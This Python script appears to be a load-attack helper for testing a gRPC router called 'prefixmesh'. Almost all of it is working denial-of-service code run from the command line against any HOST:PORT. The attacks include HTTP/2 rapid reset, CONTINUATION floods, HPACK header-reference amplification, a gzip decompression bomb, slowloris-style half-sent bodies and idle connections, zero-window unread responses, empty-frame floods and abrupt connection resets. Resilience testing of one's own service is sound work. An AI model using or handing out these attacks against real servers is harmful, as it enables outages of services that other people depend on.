"""What strangers do to a router's ports with plain sockets, for some seconds. For attack.py.

    strangers.py MODE HOST:PORT SECONDS

Ends with one JSON line: how often it tried.
Long: a stranger after the other, each in a few lines.
"""
import gzip
import json
import select
import selectors
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

GENERATE = "/prefixmesh.v1.Router/Generate"
REQUEST = b"\x0a\x07model-0\x12\x10" + b"x" * 16  # of sixteen characters


class Connection:
    """An HTTP/2 connection that speaks gRPC's framing, and breaks its rules when asked to."""

    def __init__(self, address):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=5)
        self.http = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.http.initiate_connection()
        self.flush()

    def flush(self):
        self.socket.sendall(self.http.data_to_send())

    def open(self, path, headers=()):
        stream = self.http.get_next_available_stream_id()
        self.http.send_headers(stream, [(":method", "POST"), (":scheme", "http"), (":path", path),
                                        (":authority", "router"), ("content-type", "application/grpc"),
                                        ("te", "trailers"), *headers])
        self.flush()
        return stream

    def take(self, timeout):
        """Reads what is there; returns the events."""
        if not select.select([self.socket], [], [], timeout)[0]:
            return []
        data = self.socket.recv(1 << 16)
        if not data:
            raise ConnectionError("closed")
        events = self.http.receive_data(data)
        for event in events:
            if isinstance(event, h2.events.DataReceived):
                self.http.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        self.flush()
        return events

    def push(self, stream, left):
        """Sends as much of `left` zeros as flow control allows, but for the last byte; returns what is left."""
        try:
            room = min(self.http.local_flow_control_window(stream), self.http.max_outbound_frame_size, left - 1)
            if room > 0:
                self.http.send_data(stream, bytes(room))
                self.flush()
                return left - room
        except h2.exceptions.ProtocolError:  # the stream is closed
            return 0
        return left


def until(seconds):
    end = time.monotonic() + seconds
    return lambda: time.monotonic() < end


def half_sent(address, goes, connections=4, streams=100, announced=15 << 20, path=GENERATE, headers=(),
              before=b""):
    """Bodies that begin and never end. What was refused is opened again."""
    tries = 0
    held = []
    while goes():
        while len(held) < connections:
            try:
                held.append((Connection(address), {}))
            except OSError:
                break
        for connection, open_streams in list(held):
            try:
                while len(open_streams) < streams and goes():
                    try:
                        stream = connection.open(path, headers)
                        connection.http.send_data(stream, before + b"\0" + struct.pack(">I", announced))
                        connection.flush()
                    except h2.exceptions.ProtocolError:
                        break
                    open_streams[stream] = announced
                    tries += 1
                for stream, left in list(open_streams.items()):
                    open_streams[stream] = connection.push(stream, left)
                for event in connection.take(0.002):
                    if isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
                        open_streams.pop(event.stream_id, None)
                    if isinstance(event, h2.events.ConnectionTerminated):
                        raise ConnectionError("goaway")
            except (OSError, h2.exceptions.ProtocolError, KeyError):
                held.remove((connection, open_streams))
    return tries


def half_sent_health(address, goes):
    return half_sent(address, goes, path=HEALTH)


def untaken(address, goes, connections=12, streams=400, per_second=300):
    """Small whole requests whose answers are never taken: the windows for them are closed. No more than the workers
    have room for, so that nobody waits for them but for want of room in flight."""
    began = time.monotonic()
    body = b"\0" + struct.pack(">I", len(REQUEST)) + REQUEST
    tries = 0
    held = []
    while goes():
        while len(held) < connections:
            try:
                connection = Connection(address)
                connection.http.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
                connection.flush()
                held.append((connection, set()))
            except OSError:
                break
        for connection, open_streams in list(held):
            try:
                for _ in range(50):
                    if len(open_streams) >= streams or not goes():
                        break
                    if tries > per_second * (time.monotonic() - began):
                        break
                    try:
                        stream = connection.open(GENERATE)
                        connection.http.send_data(stream, body, end_stream=True)
                        connection.flush()
                    except h2.exceptions.ProtocolError:
                        break
                    open_streams.add(stream)
                    tries += 1
                for event in connection.take(0.002):
                    if isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
                        open_streams.discard(event.stream_id)
                    if isinstance(event, h2.events.ConnectionTerminated):
                        raise ConnectionError("goaway")
            except (OSError, h2.exceptions.ProtocolError, KeyError):
                held.remove((connection, open_streams))
    return tries


def endless_frame(address, goes):
    """Sync streams under a configured name, with a preface, whose next message never ends."""
    preface = b"\x0a\x01a\x11" + struct.pack("<Q", 7)
    frame = b"\x12" + bytes([len(preface)]) + preface
    return half_sent(address, goes, connections=1, streams=1, announced=1 << 30, path="/prefixmesh.v1.Sync/Exchange",
                     headers=[("prefixmesh-router", "a")], before=b"\0" + struct.pack(">I", len(frame)) + frame)


def inflated(address, goes):
    """64 MiB of zeros in 280 KiB."""
    body = gzip.compress(bytes(64 << 20), 1)
    tries = 0
    while goes():
        try:
            connection = Connection(address)
            stream = connection.open(GENERATE, [("grpc-encoding", "gzip")])
            data = b"\1" + struct.pack(">I", len(body)) + body
            sent = 0
            tries += 1
            while sent < len(data) and goes():
                room = min(connection.http.local_flow_control_window(stream), connection.http.max_outbound_frame_size)
                if room > 0:
                    connection.http.send_data(stream, data[sent:sent + room])
                    connection.flush()
                    sent += room
                connection.take(0.005 if room > 0 else 0.2)
            connection.http.end_stream(stream)
            connection.flush()
            connection.take(0.5)
        except (OSError, h2.exceptions.ProtocolError, KeyError):
            pass
        finally:
            time.sleep(0.05)
    return tries


def silent_connections(address, goes, count=1100):
    """More connections than a port takes, that say nothing, and half a request line on every second one."""
    host, port = address.rsplit(":", 1)
    held, tries = [], 0
    while goes():
        while len(held) < count and goes():
            try:
                connection = socket.create_connection((host, int(port)), timeout=1)
                if tries % 2:
                    connection.sendall(b"GET /metr")
                held.append(connection)
                tries += 1
            except OSError:
                break
        time.sleep(0.2)
        for connection in list(held):
            connection.setblocking(False)
            try:
                if connection.recv(1) == b"":
                    held.remove(connection)
            except BlockingIOError:
                pass
            except OSError:
                held.remove(connection)
    return tries


def measuring_calls(address, goes):
    """Probes, phases and status from a stranger."""
    tries = 0
    methods = ["/prefixmesh.v1.RouterAdmin/BeginPhase", "/prefixmesh.v1.Router/ProbeOpen",
               "/prefixmesh.v1.Router/Probe", "/prefixmesh.v1.RouterAdmin/Positions"]
    while goes():
        try:
            connection = Connection(address)
            for i in range(200):
                if not goes():
                    break
                body = b"\x0a\x01m\x7a" + b"\x88\x27" + b"x" * 5000 if i % 4 in (1, 2) else b"\x0a\x04load"
                stream = connection.open(methods[i % 4])
                try:
                    connection.http.send_data(stream, b"\0" + struct.pack(">I", len(body)) + body, end_stream=True)
                    connection.flush()
                except h2.exceptions.ProtocolError:
                    pass
                tries += 1
                connection.take(0.001)
        except (OSError, h2.exceptions.ProtocolError):
            time.sleep(0.05)
    return tries


EXCHANGE = "/prefixmesh.v1.Sync/Exchange"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def field(name, value, first=b"\0"):
    """A header field that is not compressed; first b"\x40" puts it into the table."""
    def text(string):
        size, rest = len(string), b""
        if size >= 127:
            size, left = 127, size - 127
            while left >= 128:
                rest += bytes([left % 128 + 128])
                left //= 128
            rest += bytes([left])
        return bytes([size]) + rest + string
    return first + text(name) + text(value)


def request_headers(path):
    return b"".join(field(name, value) for name, value in [
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode()), (b":authority", b"router"),
        (b"content-type", b"application/grpc"), (b"te", b"trailers")])


DATA, HEADERS, RESET, SETTINGS, WINDOW_UPDATE, CONTINUATION, UNKNOWN = 0, 1, 3, 4, 8, 9, 0x77
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)


def raw(address, goes, begin, more):
    """Connections, one after another, on which `begin` is sent and then what `more` returns, as fast as it is taken."""
    host, port = address.rsplit(":", 1)
    tries = 0
    while goes():
        try:
            connection = socket.create_connection((host, int(port)), timeout=1)
        except OSError:
            time.sleep(0.01)
            continue
        with connection:
            left = PREFACE + begin
            stream = 3
            try:
                while goes():
                    readable, writable, _ = select.select([connection], [connection], [], 0.1)
                    if readable and not connection.recv(1 << 16):
                        break
                    if writable:
                        left = left[connection.send(left):]
                    if not left:
                        left, count = more(stream)
                        stream += 2 * count
                        tries += count
            except OSError:
                pass
    return tries


def continuation_flood(address, goes, path=GENERATE):
    """A header block that never ends."""
    piece = frame(CONTINUATION, 0, 1, field(b"a", b"b") * 200) * 10
    return raw(address, goes, frame(HEADERS, 0, 1, request_headers(path)), lambda stream: (piece, 10))


def header_references(address, goes, path=GENERATE):
    """Header blocks of 4 KB, each of which names an entry of 4 KB four thousand times."""
    begin = frame(HEADERS, END_HEADERS | END_STREAM, 1, request_headers(path) + field(b"x", b"v" * 3900, b"\x40"))
    block = request_headers(path) + b"\xbe" * 4000
    return raw(address, goes, begin, lambda stream: (frame(HEADERS, END_HEADERS | END_STREAM, stream, block), 1))


def header_bytes(address, goes, path=GENERATE):
    """Calls that are over at once, each with as many headers as are allowed."""
    block = request_headers(path) + b"".join(field(b"x%d" % i, b"v" * 4000) for i in range(3))
    return raw(address, goes, b"", lambda stream: (frame(HEADERS, END_HEADERS | END_STREAM, stream, block), 1))


def rapid_reset(address, goes, path=GENERATE):
    """Calls that are cancelled as soon as they have begun."""
    block = request_headers(path)

    def more(stream):
        return b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, block) + frame(RESET, 0, stream + 2 * i, b"\0\0\0\x08")
                        for i in range(50)), 50

    return raw(address, goes, b"", more)


def many(address, goes, count, more, reads=True):
    """As raw, on so many connections at once; what is answered is read, or not."""
    host, port = address.rsplit(":", 1)
    ready = selectors.DefaultSelector()
    tries = 0

    class Sender:
        def __init__(self):
            self.socket = socket.socket()
            if not reads:
                self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
            self.socket.settimeout(1)
            self.socket.connect((host, int(port)))
            self.socket.setblocking(False)
            self.left = PREFACE
            self.stream = 1
            ready.register(self.socket, selectors.EVENT_WRITE | (selectors.EVENT_READ if reads else 0), self)

        def go_on(self, events):
            nonlocal tries
            if events & selectors.EVENT_READ and not self.socket.recv(1 << 16):
                raise ConnectionError("closed")
            if not events & selectors.EVENT_WRITE:
                return
            if not self.left:
                self.left, began = more(self.stream)
                self.stream += 2 * began
                tries += began
            self.left = self.left[self.socket.send(self.left):]

    while goes():
        while len(ready.get_map()) < count and goes():
            try:
                Sender()
            except OSError:
                break
        for key, events in ready.select(0.1):
            try:
                key.data.go_on(events)
            except BlockingIOError:
                pass
            except OSError:
                ready.unregister(key.fileobj)
                key.fileobj.close()
    return tries


STATUS = "/prefixmesh.v1.RouterAdmin/Status"
HEALTH = "/grpc.health.v1.Health/Check"


def check_flood(address, goes, path, reads):
    """Calls that cost a client nothing, from many connections, as fast as they are taken."""
    block = request_headers(path)

    def more(stream):
        return b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, block) +
                        frame(DATA, END_STREAM, stream + 2 * i, bytes(5)) for i in range(20)), 20

    return many(address, goes, 20, more, reads)


def unread_calls(address, goes, path=GENERATE):
    """Connections that let the server send two gigabytes and take none of them, each with as many calls as there may
    be: first of answers that fill the way back, then of calls that are refused, and whose refusals cannot leave."""
    block = request_headers(STATUS)
    refused = request_headers("/x/y")
    filling = 8000
    windows = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, (1 << 31) - 1)) + frame(
        WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30))

    def more(stream):
        first = windows if stream == 1 else b""
        calls = range(stream, stream + 40, 2)
        if stream < 2 * filling and path == GENERATE:
            return first + b"".join(frame(HEADERS, END_HEADERS, call, block) + frame(DATA, END_STREAM, call, bytes(5))
                                    for call in calls), 20
        return first + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, call, refused) for call in calls), 20

    return many(address, goes, 20, more, reads=False)


def empty_frames(address, goes):
    """Frames that carry nothing, from many connections, as fast as they are taken."""
    piece = frame(UNKNOWN, 0, 0) * 200
    return many(address, goes, 500, lambda stream: (piece, 200))


def broken_connections(address, goes, calls, stays):
    """Connections that are broken with all their calls: at once, or when the server has spoken."""
    host, port = address.rsplit(":", 1)
    block = request_headers(GENERATE)
    body = b"\0" + struct.pack(">I", len(REQUEST)) + REQUEST
    sent = PREFACE + b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, block) + frame(DATA, END_STREAM, 2 * i + 1, body)
                              for i in range(calls))
    tries = 0
    while goes():
        try:
            with socket.create_connection((host, int(port)), timeout=1) as connection:
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                connection.sendall(sent)
                tries += calls
                if stays:
                    connection.recv(1 << 16)
        except OSError:
            pass
    return tries


def new_connections(address, goes):
    return broken_connections(address, goes, 1, False)


def left_calls(address, goes):
    return broken_connections(address, goes, 200, True)


def on_sync(attack):
    return lambda address, goes: attack(address, goes, EXCHANGE)


MODES = {"continuation-flood": continuation_flood, "header-references": header_references,
         "header-bytes": header_bytes, "rapid-reset": rapid_reset,
         "continuation-flood-sync": on_sync(continuation_flood), "header-references-sync": on_sync(header_references),
         "header-bytes-sync": on_sync(header_bytes), "rapid-reset-sync": on_sync(rapid_reset),
         "untaken": untaken, "half-sent": half_sent, "half-sent-health": half_sent_health, "endless-frame": endless_frame, "inflated": inflated,
         "silent-connections": silent_connections, "measuring-calls": measuring_calls,
         "empty-frames": empty_frames, "new-connections": new_connections,
         "left-calls": left_calls, "unread-calls": unread_calls, "unread-calls-sync": on_sync(unread_calls),
         "status-flood": lambda address, goes: check_flood(address, goes, STATUS, True),
         "status-untaken": lambda address, goes: check_flood(address, goes, STATUS, False),
         "health-untaken": lambda address, goes: check_flood(address, goes, HEALTH, False)}

if __name__ == "__main__":
    print(json.dumps({"tries": MODES[sys.argv[1]](sys.argv[2], until(float(sys.argv[3])))}))
